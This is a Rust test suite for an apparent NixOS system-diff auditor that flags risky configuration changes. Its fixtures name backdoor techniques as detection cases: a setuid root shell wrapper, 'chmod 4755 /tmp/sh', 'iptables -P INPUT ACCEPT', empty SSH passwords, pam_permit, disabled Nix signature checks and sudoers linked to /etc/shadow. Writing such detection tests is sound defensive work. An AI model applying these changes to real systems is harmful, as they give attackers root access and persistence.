#[test]
fn sshd_named_file_change_is_flagged() {
    let alerts =
        check("sshd-ca-keys", &[(K::SshdSettingChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].subject, "/etc/ssh/sshd_config");
    assert!(
        alerts[0].detail.contains("sshd-ca-keys (+1 -0)"),
        "{alerts:#?}"
    );
}

#[test]
fn sshd_include_content_is_read() {
    let alerts =
        check("sshd-include", &[(K::SshdSettingChanged, S::Critical)], &[]);
    // The included file's settings are compared, so it raises no second
    // alert as a named file.
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(
        alerts[0]
            .detail
            .contains("PermitEmptyPasswords (default) -> yes"),
        "{alerts:#?}"
    );
}

#[test]
fn pam_named_script_change_is_flagged() {
    let alerts = check("pam-exec-script", &[(K::PamChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].subject, "/etc/pam.d/sshd");
    assert!(
        alerts[0].detail.contains("pam-session-hook (+1 -1)"),
        "{alerts:#?}"
    );
}

#[test]
fn nix_hook_script_change_is_flagged() {
    let alerts =
        check("nix-hook-script", &[(K::NixSettingChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(alerts[0].detail.contains("post-build-hook"), "{alerts:#?}");
}

#[test]
fn sudoers_include_content_is_read() {
    let alerts =
        check("sudo-include", &[(K::SudoRuleAdded, S::Critical)], &[]);
    assert!(alerts[0].detail.contains("alice"), "{alerts:#?}");
    assert_eq!(alerts[0].subject, "/etc/sudoers");
}

#[test]
fn sudoers_relative_link_is_read() {
    check(
        "sudo-relative-link",
        &[(K::SudoRuleAdded, S::Critical)],
        &[],
    );
}

#[test]
fn pam_relative_link_is_read() {
    check("pam-relative-link", &[(K::PamChanged, S::Critical)], &[]);
}

#[test]
fn doas_nopass_rule_is_critical() {
    check("doas", &[(K::SudoRuleAdded, S::Critical)], &[]);
}

#[test]
fn setuid_shell_wrapper_is_critical() {
    let alerts =
        check("wrapper-added", &[(K::WrapperAdded, S::Critical)], &[]);
    assert!(alerts[0].detail.contains("…-bash/bin/bash"), "{alerts:#?}");
    assert_eq!(alerts[0].subject, "/run/wrappers/bin/rootshell");
}

#[test]
fn wrapper_capabilities_change() {
    check("wrapper-changed", &[(K::WrapperChanged, S::High)], &[]);
}

#[test]
fn wrapper_removed() {
    check("wrapper-removed", &[(K::WrapperRemoved, S::Low)], &[]);
}

#[test]
fn firewall_port_opened() {
    let alerts =
        check("firewall-port", &[(K::FirewallPortOpened, S::High)], &[]);
    assert_eq!(alerts[0].detail, "tcp 8080 opened");
}

#[test]
fn firewall_port_closed() {
    check("firewall-closed", &[(K::FirewallPortClosed, S::Low)], &[]);
}

#[test]
fn firewall_extra_commands() {
    let alerts =
        check("firewall-rule", &[(K::FirewallRuleChanged, S::High)], &[]);
    assert!(alerts[0].detail.contains("203.0.113.7"), "{alerts:#?}");
}

#[test]
fn firewall_disabled() {
    check(
        "firewall-off",
        &[(K::FirewallDisabled, S::High), (K::UnitRemoved, S::Medium)],
        &[K::FirewallPortClosed],
    );
}

#[test]
fn firewall_script_replaced_by_drop_in() {
    let alerts = check(
        "firewall-drop-in",
        &[
            (K::FirewallRuleChanged, S::High),
            (K::FirewallPortClosed, S::Low),
        ],
        &[K::SystemPathChanged],
    );
    let rule = alerts
        .iter()
        .find(|a| a.kind == K::FirewallRuleChanged)
        .unwrap();
    assert!(
        rule.detail.contains("iptables -P INPUT ACCEPT"),
        "{alerts:#?}"
    );
}

#[test]
fn nftables_ports() {
    let alerts = check(
        "nftables",
        &[(K::FirewallPortOpened, S::High), (K::UnitAdded, S::Medium)],
        &[K::FirewallRuleChanged],
    );
    assert!(
        alerts.iter().any(|a| a.detail == "tcp 443 opened"),
        "{alerts:#?}"
    );
}

#[test]
fn kernel_needs_reboot() {
    let alerts = check(
        "kernel",
        &[
            (K::KernelChanged, S::Medium),
            (K::InitrdChanged, S::Medium),
            (K::BootChanged, S::Medium),
        ],
        &[],
    );
    let kernel = alerts.iter().find(|a| a.kind == K::KernelChanged).unwrap();
    assert_eq!(
        kernel.detail,
        "linux 6.6.63 -> linux 6.6.64; takes effect after a reboot"
    );
}

#[test]
fn bootspec_disagreeing_with_kernel_params() {
    let alerts =
        check("bootspec-params", &[(K::BootspecMismatch, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].subject, "boot.json");
    assert!(
        alerts[0].detail.starts_with(
            "kernelParams in boot.json are `console=ttyS0 loglevel=4 \
             init=/tmp/x` but kernel-params has `console=ttyS0 loglevel=4`"
        ),
        "{alerts:#?}"
    );
    let diff = system_diff(path("base"), path("bootspec-params")).unwrap();
    let bootspec = diff.bootspec.expect("boot.json changed");
    let params = bootspec
        .changes
        .iter()
        .find(|c| c.field == "kernelParams")
        .expect("the parameters are listed");
    assert_eq!(
        params.new.as_deref(),
        Some("console=ttyS0 loglevel=4 init=/tmp/x")
    );
}

#[test]
fn bootspec_read_and_consistent() {
    // The base's boot.json agrees with its files, so comparing it with
    // another build reports its fields but no disagreement.
    let diff = system_diff(path("base"), path("kernel")).unwrap();
    let bootspec = diff.bootspec.expect("boot.json changed");
    assert!(bootspec.old_present);
    assert!(bootspec.new_present);
    assert!(bootspec.mismatches.is_empty(), "{bootspec:#?}");
    let label = bootspec
        .changes
        .iter()
        .find(|c| c.field == "label")
        .expect("the label names the kernel version");
    assert!(
        label.new.as_deref().unwrap().ends_with("(Linux 6.6.64)"),
        "{label:#?}"
    );
    assert!(
        !bootspec.changes.iter().any(|c| c.field == "kernel"),
        "a version bump of the kernel reduces away: {bootspec:#?}"
    );
}

#[test]
fn bootspec_removed() {
    let alerts =
        check("bootspec-removed", &[(K::BootspecChanged, S::Medium)], &[]);
    assert!(alerts[0].detail.starts_with("removed"), "{alerts:#?}");
}

#[test]
fn initrd_secret_appender_added() {
    let alerts =
        check("initrd-secrets", &[(K::InitrdSecretsChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].subject, "append-initrd-secrets");
    assert!(
        alerts[0].detail.starts_with(
            "added; now copies /etc/secrets/initrd/ssh_host_ed25519_key to \
             /etc/ssh/ssh_host_ed25519_key"
        ),
        "{alerts:#?}"
    );
}

#[test]
fn initrd_ssh_key_is_critical() {
    let alerts = check(
        "initrd-ssh-key",
        &[
            (K::InitrdChanged, S::Medium),
            (K::InitrdContentChanged, S::Critical),
        ],
        &[],
    );
    let key = alerts
        .iter()
        .find(|a| a.kind == K::InitrdContentChanged)
        .unwrap();
    assert_eq!(key.subject, "initrd /etc/ssh/authorized_keys.d/root");
    assert!(key.detail.contains("ssh-ed25519 SHA256:"), "{key:#?}");
    assert!(key.detail.contains("laptop"), "{key:#?}");
    let initrd = alerts.iter().find(|a| a.kind == K::InitrdChanged).unwrap();
    assert!(
        initrd
            .detail
            .contains("files: 3 added, 0 removed, 0 changed"),
        "{initrd:#?}"
    );
}

#[test]
fn initrd_and_bootspec_in_text_output() {
    let systems = systems();
    for (variant, expected) in [
        (
            "initrd-ssh-key",
            "added etc/ssh/authorized_keys.d/root [mode 0644]",
        ),
        (
            "initrd-xz",
            "new not read: the initrd has an archive compressed",
        ),
        ("bootspec-params", "DISAGREES: kernelParams in boot.json"),
    ] {
        let packages =
            package_diff(&systems.env.nix, path("base"), path(variant))
                .unwrap();
        let system = system_diff(path("base"), path(variant)).unwrap();
        let document = DiffDocument::assemble(None, packages, system);
        let text = render_text(&document);
        assert!(text.contains(expected), "{variant}: {text}");
    }
}

#[test]
fn initrd_stage_1_script_change() {
    let alerts = check(
        "initrd-stage-1",
        &[
            (K::InitrdChanged, S::Medium),
            (K::InitrdContentChanged, S::High),
        ],
        &[],
    );
    let script = alerts
        .iter()
        .find(|a| a.kind == K::InitrdContentChanged)
        .unwrap();
    // `stage-1-init.sh` reduces to the package name `stage`.
    assert_eq!(script.subject, "initrd /nix/store/…-stage");
    assert!(script.detail.contains("chmod 4755"), "{script:#?}");
    assert!(script.detail.contains("the stage-1 script"), "{script:#?}");
}

#[test]
fn initrd_recompressed_changes_no_file() {
    let alerts = check("initrd-gzip", &[(K::InitrdChanged, S::Medium)], &[]);
    assert!(
        alerts[0]
            .detail
            .ends_with("files: 0 added, 0 removed, 0 changed"),
        "{alerts:#?}"
    );
    let diff = system_diff(path("base"), path("initrd-gzip")).unwrap();
    let initrd = diff.initrd.expect("the initrd was read");
    assert_eq!(initrd.old.unwrap().archives, ["cpio", "zstd"]);
    let new = initrd.new.unwrap();
    assert_eq!(new.archives, ["cpio", "gzip"]);
    assert!(new.entries > 10, "{new:#?}");
    assert!(initrd.files.is_empty(), "{:#?}", initrd.files);
}

#[test]
fn initrd_xz_is_not_read() {
    let alerts = check("initrd-xz", &[(K::InitrdChanged, S::Medium)], &[]);
    assert!(
        alerts[0].detail.contains(
            "files not read (new: the initrd has an archive compressed \
             with xz"
        ),
        "{alerts:#?}"
    );
    let diff = system_diff(path("base"), path("initrd-xz")).unwrap();
    let initrd = diff.initrd.unwrap();
    assert!(initrd.files.is_empty());
    assert!(initrd.new.unwrap().not_read.is_some());
}

#[test]
fn initrd_kernel_bump_moves_modules_only() {
    // The kernel variant's initrd has the modules of the new version and
    // a stage-1 script that differs in store paths only.
    let diff = system_diff(path("base"), path("kernel")).unwrap();
    let initrd = diff.initrd.expect("the initrd was read");
    let changed: Vec<(&str, bool)> = initrd
        .files
        .iter()
        .filter(|f| f.old.is_some() && f.new.is_some())
        .map(|f| (f.path.as_str(), f.only_store_paths_changed))
        .collect();
    assert_eq!(changed, [("nix/store/…-stage", true)], "{initrd:#?}");
    assert!(
        initrd
            .files
            .iter()
            .any(|f| f.path.ends_with("/lib/modules/6.6.64/modules.dep")),
        "{initrd:#?}"
    );
}

#[test]
fn switch_script() {
    check("switch-script", &[(K::SwitchScriptChanged, S::High)], &[]);
}

#[test]
fn kernel_params() {
    check("kernel-params", &[(K::KernelParamsChanged, S::High)], &[]);
}

#[test]
fn kernel_params_underscore_spelling() {
    check(
        "kernel-params-spelled",
        &[(K::KernelParamsChanged, S::High)],
        &[],
    );
}

#[test]
fn kernel_modules() {
    check("modules", &[(K::KernelModuleChanged, S::Medium)], &[]);
}

#[test]
fn modprobe_install_line() {
    check(
        "modprobe-install",
        &[(K::ModprobeInstallChanged, S::High)],
        &[],
    );
}

#[test]
fn modprobe_blacklist() {
    check(
        "modprobe-blacklist",
        &[(K::ModprobeChanged, S::Medium)],
        &[],
    );
}

#[test]
fn sysctl_ptrace() {
    let alerts = check("sysctl", &[(K::SysctlChanged, S::High)], &[]);
    assert_eq!(alerts[0].detail, "kernel.yama.ptrace_scope 1 -> 0");
}

#[test]
fn sysctl_pattern_is_high() {
    let alerts = check("sysctl-glob", &[(K::SysctlChanged, S::High)], &[]);
    assert!(
        alerts[0]
            .detail
            .starts_with("fs.protected_* (kernel default) -> 0; the pattern matches fs.protected_symlinks"),
        "{alerts:#?}"
    );
}

#[test]
fn activation_snippet_added() {
    check(
        "snippet-added",
        &[(K::ActivationSnippetAdded, S::High)],
        &[],
    );
}

#[test]
fn activation_snippet_changed() {
    check(
        "snippet-changed",
        &[(K::ActivationSnippetChanged, S::High)],
        &[],
    );
}

#[test]
fn activation_snippet_runs_changed_script() {
    let alerts = check(
        "snippet-script",
        &[(K::ActivationSnippetChanged, S::High)],
        &[],
    );
    assert!(alerts[0].detail.contains("motd-setup"), "{alerts:#?}");
    let diff = system_diff(path("base"), path("snippet-script")).unwrap();
    let activate =
        diff.toplevel.iter().find(|c| c.path == "activate").unwrap();
    let script = activate
        .referenced
        .iter()
        .find(|r| r.path == "motd-setup")
        .expect("the script's diff is shown");
    let lines: Vec<&String> = script
        .hunks
        .iter()
        .flatten()
        .flat_map(|h| &h.lines)
        .collect();
    assert!(lines.iter().any(|l| l.contains("curl")), "{lines:?}");
}

#[test]
fn dry_activation_snippet_added() {
    let alerts =
        check("dry-snippet", &[(K::DryActivationChanged, S::High)], &[]);
    assert_eq!(alerts[0].subject, "dry-activate snippet motd");
    assert!(
        alerts[0].detail.starts_with("now runs in dry activation"),
        "{alerts:#?}"
    );
    assert!(alerts[0].detail.contains("motd-setup"), "{alerts:#?}");
}

#[test]
fn activation_change_not_repeated_for_dry_activate() {
    // The base's motd snippet does not support dry activation, so its
    // change shows in `activate` only. A snippet that does support it is
    // added to both scripts and reported once, as an activation snippet.
    check(
        "snippet-changed",
        &[(K::ActivationSnippetChanged, S::High)],
        &[],
    );
    let alerts = check(
        "dry-snippet-added",
        &[(K::ActivationSnippetAdded, S::High)],
        &[],
    );
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn pam_permit_is_critical() {
    check("pam", &[(K::PamChanged, S::Critical)], &[]);
}

#[test]
fn pam_permit_bracket_is_critical() {
    check("pam-bracket", &[(K::PamChanged, S::Critical)], &[]);
}

#[test]
fn nix_trusted_user_is_critical() {
    let alerts =
        check("nix-conf", &[(K::NixSettingChanged, S::Critical)], &[]);
    assert_eq!(alerts[0].detail, "trusted-users root -> root alice");
}

#[test]
fn nix_aliases_and_booleans_are_read() {
    let alerts =
        check("nix-aliases", &[(K::NixSettingChanged, S::Critical)], &[]);
    let find = |detail: &str| {
        alerts
            .iter()
            .find(|a| a.detail == detail)
            .unwrap_or_else(|| panic!("no `{detail}` in {alerts:#?}"))
            .severity
    };
    assert_eq!(find("require-sigs true -> no"), S::Critical);
    assert_eq!(
        find(
            "substituters https://cache.nixos.org/ -> \
             https://cache.example.org?trusted=1"
        ),
        S::Critical
    );
    assert_eq!(
        find(
            "trusted-public-keys \
             cache.nixos.org-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY= \
             -> example-1:AAAA"
        ),
        S::High
    );
    assert_eq!(alerts.len(), 3, "{alerts:#?}");
}

#[test]
fn nix_include_content_is_read() {
    let alerts =
        check("nix-include", &[(K::NixSettingChanged, S::Critical)], &[]);
    assert!(alerts[0].detail.contains("alice"), "{alerts:#?}");
}

#[test]
fn systemd_user_unit_added() {
    let alerts = check("user-unit", &[(K::UnitAdded, S::Medium)], &[]);
    assert_eq!(
        alerts[0].subject,
        "/etc/systemd/user/default.target.wants/agent.service"
    );
}

#[test]
fn systemd_manager_configuration() {
    check("systemd-manager", &[(K::UnitChanged, S::High)], &[]);
}

#[test]
fn group_sharing_a_privileged_gid() {
    let alerts = check(
        "group-gid-alias",
        &[(K::GroupChanged, S::High), (K::GroupMemberAdded, S::High)],
        &[],
    );
    assert!(
        alerts.iter().any(|a| a.detail.contains("wheel")),
        "{alerts:#?}"
    );
}

#[test]
fn nix_remote_store_is_critical() {
    let alerts = check("nix-store", &[(K::NixStoreChanged, S::Critical)], &[]);
    assert_eq!(alerts[0].subject, "/etc/nix/nix.conf");
    assert_eq!(
        alerts[0].detail,
        "store (default) -> ssh-ng://root@203.0.113.5"
    );
}

#[test]
fn tmpfiles_link_into_etc() {
    check("tmpfiles", &[(K::TmpfilesChanged, S::High)], &[]);
}

#[test]
fn tmpfiles_specifier_for_etc() {
    check("tmpfiles-specifier", &[(K::TmpfilesChanged, S::High)], &[]);
}

#[test]
fn udev_hash_sign_in_rule() {
    let alerts = check("udev-hash", &[(K::UdevRuleChanged, S::High)], &[]);
    assert!(alerts[0].detail.contains("RUN+="), "{alerts:#?}");
}

#[test]
fn udev_run_rule() {
    check("udev", &[(K::UdevRuleChanged, S::High)], &[]);
}

#[test]
fn polkit_rule() {
    check("polkit", &[(K::PolkitRuleChanged, S::High)], &[]);
}

#[test]
fn etc_mode_sidecar() {
    let alerts = check("etc-mode", &[(K::EtcModeChanged, S::High)], &[]);
    assert_eq!(alerts[0].subject, "/etc/sudoers");
    assert_eq!(alerts[0].detail, "mode 0440 -> 0666");
}

#[test]
fn preload() {
    check("preload", &[(K::PreloadChanged, S::High)], &[]);
}

#[test]
fn access_config() {
    check("nsswitch", &[(K::AccessConfigChanged, S::High)], &[]);
    let alerts =
        check("dbus-policy", &[(K::AccessConfigChanged, S::High)], &[]);
    assert_eq!(alerts[0].subject, "/etc/dbus-1/system.d/evil.conf");
    check("login-defs", &[(K::AccessConfigChanged, S::Medium)], &[]);
}

#[test]
fn shell_init() {
    check("profile", &[(K::ShellInitChanged, S::Medium)], &[]);
}

#[test]
fn outside_link_reported() {
    let alerts = check("outside-link", &[(K::OutsideLink, S::Low)], &[]);
    assert!(alerts[0].detail.contains("/run/resolv.conf"));
}

#[test]
fn new_command_on_path() {
    let alerts = check("path-added", &[(K::SystemPathChanged, S::Info)], &[]);
    assert_eq!(alerts[0].detail, "added commands jq");
}

#[test]
fn command_shadowed_by_another_package() {
    let alerts =
        check("path-shadowed", &[(K::SystemPathChanged, S::Medium)], &[]);
    assert_eq!(
        alerts[0].detail,
        "commands now from another package: hello: hello -> hello-ng"
    );
}

#[test]
fn sudoers_linked_out_of_store() {
    let alerts = check(
        "sudoers-outside",
        &[(K::OutsideLink, S::High)],
        &[K::SudoRuleRemoved, K::SudoConfigChanged, K::EtcModeChanged],
    );
    let link = alerts.iter().find(|a| a.kind == K::OutsideLink).unwrap();
    assert_eq!(link.subject, "/etc/sudoers");
    assert!(link.detail.contains("/etc/shadow"), "{link:?}");
    let diff = system_diff(path("base"), path("sudoers-outside")).unwrap();
    let json = serde_json::to_string(&diff).unwrap();
    assert!(!json.contains("root:"), "the target was read");
}

#[test]
fn unit_added() {
    check("unit-added", &[(K::UnitAdded, S::Medium)], &[]);
}

#[test]
fn unit_now_runs_as_root() {
    check("unit-root", &[(K::UnitChanged, S::High)], &[]);
}

#[test]
fn unit_full_privilege_prefix() {
    let alerts = check("unit-privileged", &[(K::UnitChanged, S::High)], &[]);
    assert!(alerts[0].detail.contains("ExecStartPre=+"), "{alerts:#?}");
}

#[test]
fn unit_bare_command_is_high() {
    let alerts = check("unit-search-path", &[(K::UnitChanged, S::High)], &[]);
    assert!(
        alerts[0].detail.contains("ExecStartPre=prepare"),
        "{alerts:#?}"
    );
}

#[test]
fn unit_reordered_raises_nothing() {
    assert!(alerts_of("unit-reordered").is_empty());
    let diff = system_diff(path("base"), path("unit-reordered")).unwrap();
    let unit = diff
        .units
        .iter()
        .find(|c| c.path == "backup.service")
        .expect("the text changed, so the entry is listed");
    assert!(unit.directives.is_empty(), "{:#?}", unit.directives);
    assert!(unit.hunks.is_some(), "the text diff is kept for display");
}

#[test]
fn unit_drop_in_names_security_directives() {
    let alerts = check("unit-drop-in", &[(K::UnitChanged, S::High)], &[]);
    let unit = &alerts[0];
    assert_eq!(unit.subject, "/etc/systemd/system/backup.service");
    assert!(
        unit.detail.contains("removed [Service] User=backup"),
        "{unit:#?}"
    );
    assert!(
        unit.detail
            .contains("added [Service] AmbientCapabilities=CAP_NET_ADMIN"),
        "{unit:#?}"
    );
    assert!(
        unit.detail
            .contains("security-relevant: AmbientCapabilities, User"),
        "{unit:#?}"
    );
    assert!(unit.detail.contains("now runs as root"), "{unit:#?}");
    let diff = system_diff(path("base"), path("unit-drop-in")).unwrap();
    let drop_in = diff
        .units
        .iter()
        .find(|c| c.path == "backup.service.d/overrides.conf")
        .expect("the drop-in is listed");
    assert_eq!(drop_in.directives.len(), 1, "{:#?}", drop_in.directives);
}

#[test]
fn unit_drop_in_overrides_user_with_root() {
    let alerts = check("unit-drop-in-root", &[(K::UnitChanged, S::High)], &[]);
    let unit = &alerts[0];
    assert_eq!(unit.subject, "/etc/systemd/system/backup.service");
    assert!(
        unit.detail.contains("[Service] User: backup -> root"),
        "{unit:#?}"
    );
    assert!(unit.detail.contains("now runs as root"), "{unit:#?}");
}

#[test]
fn unit_alias_drop_in_changes_its_unit() {
    let alerts =
        check("unit-alias-drop-in", &[(K::UnitChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let unit = &alerts[0];
    assert_eq!(unit.subject, "/etc/systemd/system/backup.service");
    assert!(
        unit.detail.contains("[Service] User: backup -> root"),
        "{unit:#?}"
    );
    assert!(unit.detail.contains("now runs as root"), "{unit:#?}");
}

#[test]
fn unit_alias_added() {
    let alerts = check("unit-alias-added", &[(K::UnitAdded, S::Medium)], &[]);
    assert_eq!(alerts[0].subject, "/etc/systemd/system/backup-now.service");
}

#[test]
fn unit_type_drop_in_is_one_alert() {
    let alerts = check("unit-type-drop-in", &[(K::UnitChanged, S::High)], &[]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let folder = &alerts[0];
    assert_eq!(folder.subject, "/etc/systemd/system/service.d/");

    let services = [
        "backup.service",
        "firewall.service",
        "hello.service",
        "sshd.service",
        "suid-sgid-wrappers.service",
    ];
    let prefix = format!(
        "unit type drop-in folder for {} units ({}); changes {} of them",
        services.len(),
        services.join(", "),
        services.len()
    );
    assert!(folder.detail.starts_with(&prefix), "{folder:#?}");
    assert!(
        folder
            .detail
            .contains("[Service] User: backup -> root (backup.service)"),
        "{folder:#?}"
    );
    assert!(
        folder.detail.contains(
            "added [Service] User=root (firewall.service, hello.service, \
             sshd.service, suid-sgid-wrappers.service)"
        ),
        "{folder:#?}"
    );
    assert!(
        folder.detail.contains("security-relevant: User"),
        "{folder:#?}"
    );
    assert!(
        folder.detail.contains("now runs as root: backup.service"),
        "{folder:#?}"
    );

    let diff = system_diff(path("base"), path("unit-type-drop-in")).unwrap();
    let drop_in = diff
        .units
        .iter()
        .find(|c| c.path == "service.d/zz.conf")
        .expect("the drop-in is listed");
    assert_eq!(drop_in.directives.len(), 1, "{:#?}", drop_in.directives);

    // The same system on both sides raises nothing, shared folder or not.
    let same =
        system_diff(path("unit-type-drop-in"), path("unit-type-drop-in"))
            .unwrap();
    assert!(system_alerts(&same).is_empty());
}

#[test]
fn unit_script_change_is_found_through_the_unit() {
    let alerts = check("unit-script", &[(K::UnitChanged, S::Medium)], &[]);
    assert!(
        alerts[0].detail.contains("unit-script-backup-start"),
        "{alerts:#?}"
    );
}

#[test]
fn unit_script_behind_a_decoy() {
    let alerts =
        check("unit-script-decoy", &[(K::UnitChanged, S::Medium)], &[]);
    assert!(
        alerts[0].detail.contains("unit-script-backup-start"),
        "{alerts:#?}"
    );
    // The new script is shown, with the line it gained.
    let diff = system_diff(path("base"), path("unit-script-decoy")).unwrap();
    let unit = diff
        .units
        .iter()
        .find(|u| u.path == "backup.service")
        .unwrap();
    let referenced = serde_json::to_string(&unit.referenced).unwrap();
    assert!(referenced.contains("chmod 4755 /tmp/sh"), "{referenced}");
}

#[test]
fn specialisation_diffed_as_a_system() {
    let alerts = check(
        "specialisation",
        &[
            (K::SpecialisationChanged, S::Info),
            (K::SshdSettingChanged, S::Critical),
        ],
        &[],
    );
    let sshd = alerts
        .iter()
        .find(|a| a.kind == K::SshdSettingChanged)
        .unwrap();
    assert_eq!(sshd.subject, "specialisation rescue: /etc/ssh/sshd_config");
}

#[test]
fn added_specialisation_compared_with_main_system() {
    // Compared with the new main system, the debug specialisation only
    // adds a kernel parameter.
    let alerts = check(
        "specialisation-added",
        &[
            (K::SpecialisationChanged, S::Info),
            (K::KernelParamsChanged, S::High),
        ],
        &[],
    );
    let params = alerts
        .iter()
        .find(|a| a.kind == K::KernelParamsChanged)
        .unwrap();
    assert_eq!(params.subject, "specialisation debug: kernel-params");
}

#[test]
fn every_variant_is_flagged() {
    // A variant without alerts would be a check that never fires.
    for (name, _) in variants() {
        if !SILENT_VARIANTS.contains(&name) {
            assert!(!alerts_of(name).is_empty(), "{name} raised nothing");
        }
    }
}
